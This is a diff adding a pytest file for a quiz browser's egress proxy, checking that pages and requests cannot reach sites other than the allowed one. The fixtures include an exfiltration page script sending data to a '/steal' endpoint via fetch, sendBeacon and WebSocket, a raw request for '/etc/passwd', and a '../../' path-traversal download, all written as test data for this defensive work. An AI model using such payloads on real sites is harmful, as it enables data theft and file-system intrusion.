@@ -1,0 +1,194 @@
+from __future__ import annotations
+
+import socket
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from pathlib import Path
+
+import httpx
+import pytest
+
+from quizlog_tui.quiz.address import allowed_for
+from quizlog_tui.quiz.browser import Browser, NotRenderedError
+from quizlog_tui.quiz.demo_server.web import quiz_server
+from quizlog_tui.quiz.gate import Gate, gate
+from tests.quiz.conftest import needs_browser
+from tests.quiz.small_site import small_site
+
+HERE = ("127.0.0.1", "localhost")
+
+
+@asynccontextmanager
+async def client(way_out: Gate) -> AsyncIterator[httpx.AsyncClient]:
+    async with httpx.AsyncClient(proxy=way_out.url, trust_env=False, follow_redirects=True) as http:
+        yield http
+
+
+async def test_an_allowed_site_is_reached_and_others_are_not() -> None:
+    with quiz_server() as own, quiz_server() as other:
+        async with gate(allowed_for(own.url, (), HERE)) as way_out, client(way_out) as http:
+            assert (await http.get(f"{own.url}/files/q23.json")).json()["dataset"] == 25000
+            assert (await http.get(f"{other.url}/files/q23.json")).status_code == 403
+            assert (await http.get(f"{other.url}/files/q12.csv")).status_code == 403
+        assert other.hits == []
+        assert len(way_out.refused) == 1
+
+
+async def test_private_addresses_are_refused_though_their_site_is_allowed() -> None:
+    with quiz_server() as server:
+        async with gate(allowed_for(server.url)) as way_out, client(way_out) as http:
+            assert (await http.get(server.first())).status_code == 403
+        assert server.hits == []
+        assert "private address" in way_out.refused[0]
+
+
+async def test_a_name_that_leads_to_a_private_address_is_refused() -> None:
+    with quiz_server() as server:
+        url = server.url.replace("127.0.0.1", "localhost")
+        async with gate(allowed_for(url)) as way_out, client(way_out) as http:
+            assert (await http.get(url)).status_code == 403
+        assert server.hits == []
+
+
+async def test_redirects_are_let_through_to_allowed_sites_only() -> None:
+    with (
+        quiz_server() as other,
+        small_site(
+            {
+                "/go": ("redirect", f"{other.url}/steal"),
+                "/home": ("redirect", "/x"),
+                "/x": ("html", "here"),
+            }
+        ) as site,
+    ):
+        async with gate(allowed_for(site.url, (), HERE)) as way_out, client(way_out) as http:
+            assert (await http.get(f"{site.url}/home")).text == "here"
+            assert (await http.get(f"{site.url}/go")).status_code == 403
+        assert other.hits == []
+
+
+async def test_tunnels_are_for_allowed_sites_only() -> None:
+    async with gate(allowed_for("https://quiz.site")) as way_out, client(way_out) as http:
+        with pytest.raises(httpx.ProxyError):
+            await http.get("https://elsewhere.site/")
+        assert way_out.refused == ["elsewhere.site:443: not an allowed site"]
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        b"nonsense\r\n\r\n",
+        b"GET / HTTP/1.1\r\n\r\n",
+        b"GET file:///etc/passwd HTTP/1.1\r\n\r\n",
+        b"x" * 100_000,
+    ],
+)
+async def test_nonsense_is_no_way_through(sent: bytes) -> None:
+    import asyncio
+
+    async with gate(allowed_for("https://quiz.site")) as way_out:
+        host, port = way_out.url.removeprefix("http://").split(":")
+        reader, writer = await asyncio.open_connection(host, int(port))
+        writer.write(sent)
+        writer.write_eof()
+        try:
+            said = await reader.read()
+        except ConnectionError:
+            said = b""
+        writer.close()
+        assert not said or said.startswith(b"HTTP/1.1 403")
+
+
+async def test_a_server_that_is_not_there_is_no_refusal() -> None:
+    with socket.socket() as free:
+        free.bind(("127.0.0.1", 0))
+        url = f"http://127.0.0.1:{free.getsockname()[1]}/"
+        async with gate(allowed_for(url, (), HERE)) as way_out, client(way_out) as http:
+            assert (await http.get(url)).status_code == 502
+        assert way_out.refused == []
+
+
+PAGE = """<p>Question. POST the answer to /submit</p>
+<img src="{other}/a.png"><iframe src="{other}/frame"></iframe><script src="{other}/x.js"></script>
+<script>
+fetch("{other}/steal").catch(() => 0); navigator.sendBeacon("{other}/steal", "x");
+new WebSocket("{ws}/steal"); fetch("/away").catch(() => 0);
+</script>"""
+
+
+@needs_browser()
+async def test_a_page_reaches_no_other_site_in_a_browser(tmp_path: Path) -> None:
+    with quiz_server() as other:
+        html = PAGE.replace("{other}", other.url).replace("{ws}", other.url.replace("http", "ws"))
+        pages = {
+            "/p": ("html", html),
+            "/away": ("redirect", f"{other.url}/steal"),
+            "/gone": ("redirect", f"{other.url}/q05-table"),
+        }
+        browser = Browser()
+        with small_site(pages) as site:
+            async with (
+                gate(allowed_for(site.url, (), HERE)) as way_out,
+                browser.tab(way_out, tmp_path) as tab,
+            ):
+                snapshot = await tab.visit(f"{site.url}/p")
+                assert "Question" in snapshot.frames[0].text
+                assert (await tab.visit(f"{site.url}/gone")).status == 403
+        await browser.close()
+        assert other.hits == []
+        assert way_out.refused
+
+
+LATE = """<div id=a></div><script>setTimeout(() => { a.innerText = "Late: post your answer" }, 1500)</script>"""
+CLOSED = """<div id=h></div><script>h.attachShadow({mode: "closed"}).innerHTML = "<p>Closed: submit 5</p>"</script>"""
+FRAMED = """<iframe srcdoc="<p>Framed: submit 6</p>"></iframe>"""
+HIDDEN = """<p>Intro</p><button onclick="q.hidden=false">Show question</button>
+<button onclick="fetch('/sent',{method:'POST'})">Submit</button><p id=q hidden>Revealed: submit 7</p>"""
+POLL = """<p>Polling: submit 8</p><script>fetch("/never")</script>"""
+DOWN = """<p>Down: submit 9</p><script>const a=document.createElement("a");
+a.href=URL.createObjectURL(new Blob(["x,y"]));a.download="../../d.csv";document.body.append(a);a.click()</script>"""
+ALERT = """<script>alert("hello")</script><p>Alert: submit 10</p>"""
+
+
+@needs_browser()
+@pytest.mark.parametrize(
+    ("html", "said"),
+    [
+        (LATE, "Late"),
+        (CLOSED, "Closed"),
+        (FRAMED, "Framed"),
+        (HIDDEN, "Revealed"),
+        (POLL, "Polling"),
+        (DOWN, "Down"),
+        (ALERT, "Alert"),
+    ],
+)
+async def test_whatever_way_a_page_shows_its_question_it_is_read(
+    tmp_path: Path, html: str, said: str
+) -> None:
+    from quizlog_tui.quiz.page import read_page
+
+    browser = Browser()
+    with small_site({"/p": ("html", html), "/never": ("hang", "")}) as site:
+        allowed = allowed_for(site.url, (), HERE)
+        async with gate(allowed) as way_out, browser.tab(way_out, tmp_path) as tab:
+            snapshot = await tab.visit(f"{site.url}/p")
+        assert said in read_page(snapshot, allowed).question
+        assert "/sent" not in site.hits
+        if said == "Down":
+            assert [path.read_text() for path in tmp_path.iterdir()] == ["x,y"]
+    assert browser.open_contexts == 0
+    await browser.close()
+
+
+@needs_browser()
+async def test_a_page_that_never_comes_is_given_up(tmp_path: Path) -> None:
+    browser = Browser()
+    with small_site({"/p": ("hang", "")}) as site:
+        async with (
+            gate(allowed_for(site.url, (), HERE)) as way_out,
+            browser.tab(way_out, tmp_path) as tab,
+        ):
+            with pytest.raises(NotRenderedError):
+                await tab.visit(f"{site.url}/p", 0.5)
+    await browser.close()
